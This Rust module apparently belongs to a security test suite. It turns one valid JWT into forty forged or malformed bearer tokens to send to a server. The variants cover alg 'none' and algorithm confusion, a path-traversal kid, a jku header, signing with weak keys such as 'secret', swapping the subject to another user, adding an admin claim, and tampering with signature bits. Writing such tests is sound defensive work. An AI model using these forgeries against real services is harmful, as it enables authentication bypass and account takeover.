//! Forty tokens that nobody signed, made of one good token: what anybody with an account and no key can send.

use base64::{Engine as _, prelude::BASE64_URL_SAFE_NO_PAD as BASE64};
use hmac::{Hmac, KeyInit, Mac};
use serde_json::{Value, json};
use sha2::Sha256;

/// A name, and the values of the `Authorization` headers to send.
pub(crate) type Attack = (&'static str, Vec<Vec<u8>>);

fn encode(value: &Value) -> String {
    BASE64.encode(value.to_string())
}

fn signed(key: &[u8], header: &str, claims: &str) -> String {
    let signed = format!("{header}.{claims}");
    let signature = Hmac::<Sha256>::new_from_slice(key).map(|mut mac| {
        mac.update(signed.as_bytes());
        BASE64.encode(mac.finalize().into_bytes())
    });
    format!("{signed}.{}", signature.unwrap_or_default())
}

/// All forty, of a good access token and the refresh token beside it. `None` when the token has not three parts.
pub(crate) fn all(token: &str, refresh: &str) -> Option<Vec<Attack>> {
    let mut parts = token.split('.');
    let (header, claims, signature) = (parts.next()?, parts.next()?, parts.next()?);
    let said: Value = serde_json::from_slice(&BASE64.decode(claims).ok()?).ok()?;
    let with = |name: &str, value: Value| {
        let mut changed = said.clone();
        if let Some(field) = changed.as_object_mut() {
            field.insert(name.to_owned(), value);
        }
        format!("{header}.{}.{signature}", encode(&changed))
    };
    let headed = |value: Value| format!("{}.{claims}.{signature}", encode(&value));
    let unsigned = |algorithm: &str| format!("{}.{claims}.", encode(&json!({"typ": "at+jwt", "alg": algorithm})));
    let algorithm = |algorithm: Value| headed(json!({"typ": "at+jwt", "alg": algorithm}));
    let extra = |name: &str, value: Value| {
        let mut changed = json!({"typ": "at+jwt", "alg": "HS256"});
        if let Some(field) = changed.as_object_mut() {
            field.insert(name.to_owned(), value);
        }
        headed(changed)
    };
    let twice = BASE64.encode(r#"{"typ":"at+jwt","alg":"none","alg":"HS256"}"#);
    let somebody = "01a3b1c2-7a00-7000-8000-00000000002a";
    // 43 digits hold 258 bits: the last two mean nothing, and one that reads leniently takes four signatures for one.
    let (kept, last) = signature.split_at_checked(signature.len().checked_sub(1)?)?;
    let digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let place = digits.find(last)?;
    let digit = |place: usize| digits.chars().nth(place % 64).unwrap_or('A');

    let tokens = [
        ("alg none", unsigned("none")),
        ("alg None", unsigned("None")),
        ("alg NONE", unsigned("NONE")),
        ("alg nOnE", unsigned("nOnE")),
        ("alg none, signature kept", algorithm(json!("none"))),
        ("alg none, two parts", unsigned("none").trim_end_matches('.').to_owned()),
        ("alg HS384", algorithm(json!("HS384"))),
        ("alg RS256", algorithm(json!("RS256"))),
        ("alg ES256", algorithm(json!("ES256"))),
        ("alg EdDSA", algorithm(json!("EdDSA"))),
        ("alg null", algorithm(Value::Null)),
        ("alg a list", algorithm(json!(["HS256"]))),
        ("alg twice", format!("{twice}.{claims}.{signature}")),
        ("no alg", headed(json!({"typ": "at+jwt"}))),
        ("typ JWT", headed(json!({"typ": "JWT", "alg": "HS256"}))),
        ("typ of the cookie", headed(json!({"typ": "admin+jwt", "alg": "HS256"}))),
        ("no typ", headed(json!({"alg": "HS256"}))),
        ("kid of a file", extra("kid", json!("../../../../dev/null"))),
        ("jku", extra("jku", json!("http://127.0.0.1:9/keys"))),
        ("jwk in the header", extra("jwk", json!({"kty": "oct", "k": ""}))),
        ("signed with an empty key", signed(b"", header, claims)),
        ("signed with \"secret\"", signed(b"secret", header, claims)),
        ("signed with a sample key", signed(b"your-secret-key", header, claims)),
        ("sub of somebody else", with("sub", json!(somebody))),
        ("sid of somebody else", with("sid", json!(somebody))),
        ("exp in 2100", with("exp", json!(4_102_444_800_i64))),
        ("an administrator's claim", with("is_admin", json!(true))),
        ("empty claims", format!("{header}.{}.{signature}", encode(&json!({})))),
        ("no signature", format!("{header}.{claims}.")),
        ("signature cut by a digit", format!("{header}.{claims}.{kept}")),
        ("another last digit", format!("{header}.{claims}.{kept}{}", digit(place + 4))),
        ("last digit with spare bits", format!("{header}.{claims}.{kept}{}", digit(place + 1))),
        ("padded", format!("{token}=")),
        ("four parts", format!("{token}.{signature}")),
        ("dots as %2E", token.replace('.', "%2E")),
        ("two tokens in one header", format!("{token} {token}")),
        ("16 KiB", format!("{header}.{}.{signature}", "A".repeat(16 * 1_024))),
        ("the refresh token", refresh.to_owned()),
    ];
    let mut attacks: Vec<Attack> =
        tokens.into_iter().map(|(name, token)| (name, vec![format!("Bearer {token}").into_bytes()])).collect();
    let good = format!("Bearer {token}").into_bytes();
    attacks.push(("two headers, both good", vec![good.clone(), good.clone()]));
    attacks.push(("octets that are no text", vec![[good.as_slice(), b"\xff\xfe"].concat()]));
    Some(attacks)
}
